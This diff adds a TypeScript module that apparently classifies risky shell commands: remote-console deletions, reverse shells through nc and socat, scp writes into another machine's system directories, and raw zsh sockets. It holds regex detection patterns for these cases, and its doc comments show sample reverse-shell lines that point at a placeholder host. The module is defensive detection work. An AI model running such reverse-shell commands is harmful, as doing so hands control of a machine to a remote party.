@@ -1,0 +1,103 @@
+// Connections: consoles at the other end, shells given away, copies into the system of another machine.
+import { effect } from '../../base/effect.ts';
+import { normalise } from '../../base/paths.ts';
+import { show } from '../../base/words.ts';
+import type { Effect, ShellCommand } from '../../types.ts';
+import type { Behaviour } from '../behaviour.ts';
+
+/** What is typed into a connection and changes the other end. */
+const consoleBehaviour = (changes: RegExp, inWords = false): Behaviour => ({
+  effects(command) {
+    const given = inWords ? command.words.slice(1).map((w) => w.text) : [];
+    if (!changes.test([...given, command.stdin?.text ?? ''].join('\n'))) return [];
+    return [
+      effect(command, {
+        kind: 'infrastructure',
+        weight: 'risky',
+        code: 'remote-console',
+        reason: 'Deletes or switches off something at the other end of the connection.',
+        safer: 'ask it first: show, ls, get',
+      }),
+    ];
+  },
+});
+
+export const socketConsole = consoleBehaviour(
+  /^\s*(disable|shutdown|clear|del|set|quit|stop|reset|flush)\b/im,
+);
+export const sftpConsole = consoleBehaviour(/^\s*-?(rm|rmdir|delete)\s/m);
+export const ftpConsole = consoleBehaviour(/^\s*(m?delete|rmdir)\s/m);
+export const lftpConsole = consoleBehaviour(/(^|[;"'\s])(m?rm|rmdir|glob rm)\s/m, true);
+
+const SHELL = '(\\S*/)?((ba|z|da|k)?sh|python[\\d.]*|perl|ruby|php|node)\\b|cmd(\\.exe)?\\b|powershell';
+const NC_EXEC = new RegExp(
+  `\\s(-[a-z]*[ec]|--exec|--sh-exec|-c)[\\s=]+["']?(((\\S*/)?(env|exec|nice|nohup|setsid)|--?[a-zA-Z-]+|[A-Z]\\w*|\\d+)\\s+)*(${SHELL})`,
+);
+const SOCAT_EXEC = new RegExp(
+  `\\b(?:(?:EXEC|SYSTEM|SHELL):["']?(?:[\\w/.-]+\\s+)*(?:${SHELL}|\\$)|SHELL\\b)`,
+  'i',
+);
+
+const textOf = ({ words }: ShellCommand) => words.map((w) => w.text.replaceAll('\\', '')).join(' ');
+
+export const reverseShell = (command: ShellCommand): Effect =>
+  effect(command, {
+    kind: 'fetch-and-run',
+    weight: 'irreversible',
+    code: 'reverse-shell',
+    reason: 'Gives a shell on this machine to whoever is on the other end.',
+  });
+
+/** `nc -e /bin/sh host 4444` */
+export const givesShell: Behaviour = {
+  effects: (command) => (NC_EXEC.test(textOf(command)) ? [reverseShell(command)] : []),
+};
+
+/** `socat TCP:host:4444 EXEC:/bin/sh` */
+export const connectsShell: Behaviour = {
+  effects(command) {
+    const text = textOf(command);
+    const connects = /(TCP|UDP|SSL|UNIX|SCTP|DCCP|VSOCK|FD|PROXY|SOCKS)/i.test(text);
+    return connects && SOCAT_EXEC.test(text) ? [reverseShell(command)] : [];
+  },
+};
+
+/** `scp x host:/etc/y`: copying into the system of another machine. */
+export const writesRemoteSystem: Behaviour = {
+  effects(command) {
+    const into = (command.words.at(-1)?.text ?? '').replace(/(?<=^[^/\s]+:)\/.*/, normalise);
+    if (!/^[^/\s]+:\/(etc|usr|bin|sbin|lib|boot|root|sys|var\/(lib|spool|run)|)(\/|$)/.test(into)) return [];
+    return [
+      effect(command, {
+        kind: 'overwrite',
+        weight: 'risky',
+        code: 'remote-system-write',
+        reason: `Writes into the system of another machine: ${show(into)}`,
+        safer: 'copy to /tmp there, and let a person put it in place',
+      }),
+    ];
+  },
+};
+
+export const rawSocket = (command: ShellCommand): Effect =>
+  effect(command, {
+    kind: 'fetch-and-run',
+    weight: 'risky',
+    code: 'raw-socket',
+    reason: 'Opens a raw connection from the shell.',
+    safer: 'curl',
+  });
+
+/** `ztcp host port`, of zsh. */
+export const opensSocket: Behaviour = {
+  effects: (command) => [
+    effect(command, {
+      kind: 'send',
+      weight: 'plain',
+      code: 'send',
+      reason: `Sends data to ${command.words[1]?.text}.`,
+      origins: command.stdin?.origins ?? [],
+    }),
+    rawSocket(command),
+  ],
+};
